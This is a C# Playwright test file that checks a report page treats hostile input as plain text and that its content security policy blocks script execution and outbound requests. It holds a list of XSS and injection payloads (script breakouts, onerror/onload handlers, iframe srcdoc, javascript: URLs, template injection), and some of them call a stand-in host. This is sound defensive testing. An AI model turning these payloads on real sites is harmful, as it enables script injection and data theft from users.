using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace UgcLab.Browser.Tests;

public sealed class SafetyTests(Chromium chromium) : ReportTest(chromium)
{
    private const string Host = "http://203.0.113.1";

    private static readonly string[] Attacks =
    [
        $"</script><script>window.hacked = 1; fetch('{Host}/a')</script>",
        $"<img src=\"{Host}/b\" onerror=\"window.hacked = 2\">",
        $"<!-- <script> --><svg onload=window.hacked=3><style>@import '{Host}/c'</style>",
        "\"><iframe srcdoc=\"<script>parent.hacked = 4</script>\"></iframe>",
        "javascript:window.hacked=5",
        "{{constructor.constructor('window.hacked=6')()}} ${window.hacked=7} &lt;b&gt; \u2028\u2029 \ud800 \u202e",
        "__proto__", "constructor",
    ];

    [Fact]
    public async Task Hostile_text_is_text_runs_nothing_and_requests_nothing()
    {
        string file = Reports.Clip(Folder, OperatingSystem.IsWindows() ? "a.mp4" : "<img src=x onerror=hacked=8>\"'.mp4");
        IPage page = await OpenAsync(await Reports.WriteAsync(Folder, Attacks.Select((attack, index) =>
            Reports.Row(index + 1, attack, Reports.Request(attack + " prompt", attack), Reports.Job(attack + index, file) with { ActorName = attack }) with
            {
                State = UgcRowState.Failed, Message = attack, RowId = attack, RequestId = attack, Evidence = [attack],
                Cells = new Dictionary<string, string> { [attack] = attack },
            })));

        foreach (ILocator button in await page.Locator(".details, [data-choice=redo][aria-pressed], .pick:nth-of-type(-n+2)").AllAsync())
        {
            await button.ClickAsync();
        }

        await page.GetByLabel("Text", new() { Exact = true }).FillAsync(Attacks[0]);
        await page.GetByLabel("Text", new() { Exact = true }).FillAsync("");
        await Expect(page.Locator("#rows h2")).ToHaveCountAsync(Attacks.Length);
        await Press(page, "Compare").ClickAsync();
        await page.Keyboard.PressAsync("Escape");
        await Press(page, "Export the choice").ClickAsync();

        Assert.Equal(Attacks.Select(attack => attack.Replace('\ud800', '\ufffd')), await TitlesAsync(page));
        Assert.All(await page.Locator(".prompt p").AllTextContentsAsync(), text => Assert.EndsWith(" prompt", text, StringComparison.Ordinal));
        Assert.Equal("undefined", await page.EvaluateAsync<string>("typeof window.hacked"));
        Assert.Equal(2, await page.Locator("script").CountAsync());
        Assert.Equal(0, await page.Locator("iframe, main style, main script, [onload], [onerror], a[href^=javascript]").CountAsync());
        Assert.Empty(Requests);
        Assert.Empty(Errors);
    }

    [Fact]
    public async Task The_policy_of_the_page_lets_no_other_script_run_and_no_request_leave()
    {
        IPage page = await OpenCampaignAsync();

        // What a test evaluates may use eval, and what runs after it may not.
        await page.EvaluateAsync(
            $$"""
            () => new Promise(done => setTimeout(() => {
              const policy = document.querySelector("meta[http-equiv]").content;
              window.outcomes = [policy.includes("unsafe")];
              for (const make of [
                () => { const script = document.createElement("script"); script.textContent = "window.hacked = 1"; document.body.append(script); },
                () => { document.body.innerHTML += "<b>markup</b>"; },
                () => { new Function("window.hacked = 2")(); },
                () => { document.body.setAttribute("onclick", "window.hacked = 3"); document.body.click(); },
                () => { const image = new Image(); image.src = "{{Host}}/image"; document.body.append(image); },
                () => { const frame = document.createElement("iframe"); frame.src = "{{Host}}/frame"; document.body.append(frame); },
                () => { navigator.sendBeacon("{{Host}}/beacon", "x"); },
              ]) { try { make(); } catch { window.outcomes.push("refused"); } }
              done();
            }))
            """);
        bool isRefused = await page.EvaluateAsync<bool>($"() => fetch('{Host}/fetch').then(() => false, () => true)");

        Assert.True(isRefused);
        Assert.Equal("undefined", await page.EvaluateAsync<string>("typeof window.hacked"));
        Assert.False(await page.EvaluateAsync<bool>("window.outcomes[0]"));
        Assert.DoesNotContain(Requests, request => request.Contains("/beacon", StringComparison.Ordinal) && !IsBlocked(request));

        bool IsBlocked(string request) => Errors.Any(error => error.Contains(request, StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_page_has_no_address_but_its_own_data()
    {
        string text = await File.ReadAllTextAsync(await Reports.WriteAsync(Folder, []), TestContext.Current.CancellationToken);

        Assert.DoesNotContain("http://", text.Replace("http://www.w3.org/2000/svg", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.DoesNotContain("https://", text, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe-inline", text, StringComparison.Ordinal);
    }
}
